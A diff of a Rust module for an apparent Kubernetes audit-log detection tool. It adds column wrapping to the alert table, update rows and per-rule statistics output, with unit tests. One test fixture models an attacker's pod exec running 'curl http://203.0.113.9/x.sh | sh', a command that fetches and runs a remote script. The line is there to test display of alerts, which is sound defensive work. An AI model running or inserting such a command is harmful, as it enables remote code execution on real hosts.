@@ -5,8 +5,11 @@
 use std::io::{self, Write};
 
 use kubevigil_detect::DetectionAlert;
+use kubevigil_detect::alert::{facts_label, object_label};
+use kubevigil_detect::stats::Stats;
+use kubevigil_model::time::format_rfc3339_ms;
 use kubevigil_model::{Escaped, escape_controls};
-use serde_json::Value;
+use serde_json::json;
 
 /// Writes the alert as one line of JSON (the contract).
 pub fn write_json_line(out: &mut impl Write, alert: &DetectionAlert) -> io::Result<()> {
@@ -14,8 +17,16 @@ pub fn write_json_line(out: &mut impl Write, alert: &DetectionAlert) -> io::Resu
     writeln!(out)
 }
 
+/// Width of the wrapped columns of the alert table.
+const WHO_WIDTH: usize = 28;
+const WHAT_WIDTH: usize = 44;
+const RULE_WIDTH: usize = 60;
+
 /// The alert table: `TIME SEVERITY COUNT WHO WHAT RULE`, the header before the first alert
-/// (no alert, no header).
+/// (no alert, no header). Long cells wrap onto the next lines of the row, never cut. WHAT is
+/// the verb, the object and the rule-specific facts (an exec's command, what a binding grants,
+/// a pod's privileged settings); RULE the title and the readable name. An update of an earlier
+/// alert (stream mode) shows its last time and running count, its RULE cell starting `update:`.
 #[derive(Debug, Default)]
 pub struct AlertTable {
     header_done: bool,
@@ -26,87 +37,190 @@ impl AlertTable {
         if !self.header_done {
             writeln!(
                 out,
-                "{:<24}  {:<8}  {:>5}  {:<28}  {:<40}  RULE",
+                "{:<24}  {:<8}  {:>5}  {:<WHO_WIDTH$}  {:<WHAT_WIDTH$}  RULE",
                 "TIME", "SEVERITY", "COUNT", "WHO", "WHAT"
             )?;
             self.header_done = true;
         }
-        let first = a.events.first().cloned().unwrap_or(Value::Null);
-        let who = match &a.group {
-            Some(group) if !group.is_empty() => group
-                .iter()
-                .map(|(_, v)| v.as_str())
-                .collect::<Vec<_>>()
-                .join(","),
-            _ => first["user"]["username"]
-                .as_str()
-                .unwrap_or("-")
-                .to_string(),
-        };
-        let or = &first["objectRef"];
-        let mut what = first["verb"].as_str().unwrap_or("-").to_string();
-        let resource = match (or["resource"].as_str(), or["subresource"].as_str()) {
-            (Some(r), Some(s)) => format!(" {r}/{s}"),
-            (Some(r), None) => format!(" {r}"),
-            _ => String::new(),
-        };
-        what.push_str(&resource);
-        if or.is_null() {
-            what.push(' ');
-            what.push_str(first["requestURI"].as_str().unwrap_or(""));
-        } else if let Some(ns) = or["namespace"].as_str() {
-            what.push_str(&format!(" {ns}/"));
-            what.push_str(or["name"].as_str().unwrap_or("*"));
-        } else if let Some(n) = or["name"].as_str() {
-            what.push_str(&format!(" {n}"));
+        let first = a.first_event();
+        let mut what = format!(
+            "{} {}",
+            first["verb"].as_str().unwrap_or("-"),
+            object_label(first)
+        );
+        let facts = facts_label(first);
+        if !facts.is_empty() {
+            what.push_str(": ");
+            what.push_str(&facts);
         }
-        writeln!(
-            out,
-            "{:<24}  {:<8}  {:>5}  {:<28}  {:<40}  {}",
-            a.time.as_deref().unwrap_or("-"),
-            a.severity.as_str(),
-            a.count,
-            // Escaped before truncation: the width counts what is shown.
-            truncate(&escape_controls(&who), 28),
-            truncate(&escape_controls(&what), 40),
-            Escaped(&a.title)
-        )
+        let time = if a.update { a.last_seen } else { a.first_seen };
+        let rule = format!(
+            "{}{} ({})",
+            if a.update { "update: " } else { "" },
+            a.title,
+            a.name()
+        );
+        // Escaped before wrapping: the width counts what is shown.
+        let who = wrap(&escape_controls(&a.who()), WHO_WIDTH);
+        let what = wrap(&escape_controls(&what), WHAT_WIDTH);
+        let rule = wrap(&escape_controls(&rule), RULE_WIDTH);
+        let rows = who.len().max(what.len()).max(rule.len());
+        for i in 0..rows {
+            let cell = |c: &[String]| c.get(i).cloned().unwrap_or_default();
+            let line = if i == 0 {
+                format!(
+                    "{:<24}  {:<8}  {:>5}  {:<WHO_WIDTH$}  {:<WHAT_WIDTH$}  {}",
+                    time.map_or("-".into(), format_rfc3339_ms),
+                    a.severity.as_str(),
+                    a.count,
+                    cell(&who),
+                    cell(&what),
+                    cell(&rule)
+                )
+            } else {
+                format!(
+                    "{:<24}  {:<8}  {:>5}  {:<WHO_WIDTH$}  {:<WHAT_WIDTH$}  {}",
+                    "",
+                    "",
+                    "",
+                    cell(&who),
+                    cell(&what),
+                    cell(&rule)
+                )
+            };
+            writeln!(out, "{}", line.trim_end())?;
+        }
+        Ok(())
     }
 }
 
-fn truncate(s: &str, n: usize) -> String {
-    if s.chars().count() <= n {
-        s.to_string()
-    } else {
-        let mut t: String = s.chars().take(n - 1).collect();
-        t.push('…');
-        t
+/// `s` in lines of at most `width` characters, broken after a space when there is one in the
+/// line, else inside a word.
+fn wrap(s: &str, width: usize) -> Vec<String> {
+    let mut lines = Vec::new();
+    let mut rest: Vec<char> = s.chars().collect();
+    while rest.len() > width {
+        let cut = rest[..=width]
+            .iter()
+            .rposition(|c| *c == ' ')
+            .filter(|&i| i > 0)
+            .unwrap_or(width);
+        lines.push(
+            rest[..cut]
+                .iter()
+                .collect::<String>()
+                .trim_end()
+                .to_string(),
+        );
+        let skip = if rest.get(cut) == Some(&' ') {
+            cut + 1
+        } else {
+            cut
+        };
+        rest.drain(..skip);
     }
+    if !rest.is_empty() || lines.is_empty() {
+        lines.push(rest.into_iter().collect());
+    }
+    lines
+}
+
+/// `audit detect --stats`: per rule, the busiest first, its alerts, updates, matches (before
+/// deduplication), events and exceptions, then its top actors and objects.
+pub fn write_stats(out: &mut impl Write, stats: &Stats) -> io::Result<()> {
+    let rules = stats.rules();
+    if rules.is_empty() {
+        return writeln!(out, "no rule matched");
+    }
+    for r in rules {
+        writeln!(
+            out,
+            "{}  {}  alerts {}  updates {}  matches {}  events {}  excepted {}  {}",
+            Escaped(&r.name),
+            r.severity.map_or("-", |s| s.as_str()),
+            r.alerts,
+            r.updates,
+            r.matches,
+            r.events,
+            r.excepted,
+            Escaped(&r.title)
+        )?;
+        for (label, (top, others)) in [("actors", r.top_actors()), ("objects", r.top_objects())] {
+            if top.is_empty() {
+                continue;
+            }
+            let mut items: Vec<String> = top
+                .iter()
+                .map(|(k, n)| format!("{} ({n})", escape_controls(k)))
+                .collect();
+            if others > 0 {
+                items.push(format!("others ({others})"));
+            }
+            writeln!(out, "  {label:<8} {}", items.join(", "))?;
+        }
+    }
+    Ok(())
+}
+
+/// `--stats -o json`: one JSON object per rule and line.
+pub fn write_stats_json(out: &mut impl Write, stats: &Stats) -> io::Result<()> {
+    for r in stats.rules() {
+        let top = |(top, others): (Vec<(&str, u64)>, u64)| {
+            json!({
+                "top": top.iter().map(|(k, n)| json!({"value": k, "matches": n})).collect::<Vec<_>>(),
+                "others": others,
+            })
+        };
+        let v = json!({
+            "rule": r.rule,
+            "name": r.name,
+            "title": r.title,
+            "severity": r.severity.map(|s| s.as_str()),
+            "alerts": r.alerts,
+            "updates": r.updates,
+            "matches": r.matches,
+            "events": r.events,
+            "excepted": r.excepted,
+            "actors": top(r.top_actors()),
+            "objects": top(r.top_objects()),
+        });
+        kubevigil_model::text::json::to_writer(&mut *out, &v, false)?;
+        writeln!(out)?;
+    }
+    Ok(())
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
     use kubevigil_model::Severity;
-    use serde_json::json;
+    use serde_json::Value;
 
     fn alert(group: Option<Vec<(String, String)>>, event: Value) -> DetectionAlert {
         DetectionAlert {
             rule: "r1".into(),
+            doc: std::sync::Arc::new(kubevigil_detect::rules::RuleDoc {
+                name: "k8s-pod-exec".into(),
+                ..Default::default()
+            }),
             title: "Exec into a pod\x1b[31m".into(),
             severity: Severity::High,
             time: Some("2024-05-01T10:00:00.000Z".into()),
+            first_seen: Some(1_714_557_600_000),
+            last_seen: Some(1_714_557_660_000),
             tags: vec!["attack.execution".into()],
             group,
             count: 1,
             events: vec![event],
+            ..DetectionAlert::default()
         }
     }
 
     #[test]
-    fn table_header_once_then_one_line_per_alert_escaped_and_truncated() {
+    fn table_header_once_then_rows_escaped_and_wrapped_not_cut() {
         let ev = json!({"user": {"username": "mallory\u{7}"}, "verb": "create",
-            "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "default", "name": "web-0"}});
+            "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "default", "name": "web-0"},
+            "facts": {"exec": {"command": ["sh", "-c", "curl http://203.0.113.9/x.sh | sh"], "container": "app"}}});
         let mut out = Vec::new();
         let mut table = AlertTable::default();
         table.write(&mut out, &alert(None, ev.clone())).unwrap();
@@ -114,13 +228,54 @@ mod tests {
         table.write(&mut out, &alert(Some(long_group), ev)).unwrap();
         let text = String::from_utf8(out).unwrap();
         let lines: Vec<&str> = text.lines().collect();
-        assert_eq!(lines.len(), 3, "{text}");
         assert!(lines[0].starts_with("TIME "));
-        assert!(lines[1].contains("mallory\\a "), "{}", lines[1]);
-        assert!(lines[1].ends_with("Exec into a pod\\e[31m"));
-        assert!(lines[1].contains("create pods/exec default/web-0"));
+        assert!(
+            lines[1].starts_with("2024-05-01T10:00:00.000Z  high          1  mallory\\a "),
+            "{}",
+            lines[1]
+        );
+        assert!(
+            lines[1].ends_with("Exec into a pod\\e[31m (k8s-pod-exec)"),
+            "{}",
+            lines[1]
+        );
+        assert!(
+            lines[1].contains("create pods/exec default/web-0: $ sh -c"),
+            "{text}"
+        );
+        // The command goes on, on the next line of the row, under WHAT.
+        let what_col = lines[0].find("WHAT").unwrap();
+        assert_eq!(lines[2].find(|c| c != ' '), Some(what_col), "{text}");
+        let joined: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
+        assert!(joined.contains("x.sh | sh (container app)"), "{text}");
         assert!(!text.contains('\x1b') && !text.contains('\u{7}'));
-        assert!(lines[2].contains(&format!("{}…", "x".repeat(27))));
+        assert!(!text.contains('…'));
+        // The 40-character group value is wrapped, whole.
+        let x = text.matches('x').count();
+        assert!(x >= 40, "{text}");
+    }
+
+    #[test]
+    fn updates_show_their_last_time_and_running_count() {
+        let mut a = alert(None, json!({"verb": "get", "user": {"username": "u"}}));
+        a.update = true;
+        a.count = 12;
+        let mut out = Vec::new();
+        AlertTable::default().write(&mut out, &a).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        let row = text.lines().nth(1).unwrap();
+        assert!(
+            row.starts_with("2024-05-01T10:01:00.000Z  high         12  u "),
+            "{row}"
+        );
+        assert!(row.contains("update: Exec into a pod"), "{row}");
+    }
+
+    #[test]
+    fn wrapping_breaks_at_spaces_else_inside_words() {
+        assert_eq!(wrap("aaa bbb ccc", 7), ["aaa bbb", "ccc"]);
+        assert_eq!(wrap("abcdefghij", 4), ["abcd", "efgh", "ij"]);
+        assert_eq!(wrap("", 4), [""]);
     }
 
     #[test]
@@ -145,7 +300,28 @@ mod tests {
         assert_eq!(
             keys,
             [
-                "rule", "title", "severity", "time", "tags", "group", "count", "events"
+                "rule",
+                "name",
+                "title",
+                "severity",
+                "description",
+                "why",
+                "falsePositives",
+                "nextSteps",
+                "tags",
+                "mitre",
+                "time",
+                "firstSeen",
+                "lastSeen",
+                "update",
+                "count",
+                "dedupKey",
+                "group",
+                "actor",
+                "action",
+                "facts",
+                "auditIDs",
+                "events"
             ]
         );
         assert_eq!(v["severity"], "high");
@@ -160,6 +336,7 @@ mod tests {
             event_keys,
             [
                 "auditID",
+                "time",
                 "user",
                 "sourceIPs",
                 "verb",
@@ -167,6 +344,27 @@ mod tests {
                 "responseStatus"
             ]
         );
-        assert!(!text.contains("c2VjcmV0") && !text.contains("requestURI"));
+        assert_eq!(v["action"]["requestURI"], "/x");
+        assert!(!text.contains("c2VjcmV0"));
+    }
+
+    #[test]
+    fn stats_list_rules_busiest_first_with_top_actors() {
+        let mut stats = Stats::default();
+        let ev = |u: &str| json!({"user": {"username": u}, "objectRef": {"resource": "secrets", "namespace": "ns", "name": "s"}});
+        for u in ["a", "a", "b\u{1b}"] {
+            stats.matched(&alert(None, ev(u)));
+        }
+        let mut out = Vec::new();
+        write_stats(&mut out, &stats).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        assert_eq!(
+            text,
+            "k8s-pod-exec  high  alerts 0  updates 0  matches 3  events 3  excepted 0  Exec into a pod\\e[31m\n  actors   a (2), b\\e (1)\n  objects  secrets ns/s (3)\n"
+        );
+        let mut out = Vec::new();
+        write_stats_json(&mut out, &stats).unwrap();
+        let v: Value = serde_json::from_slice(&out).unwrap();
+        assert_eq!(v["actors"]["top"][0], json!({"value": "a", "matches": 2}));
     }
 }
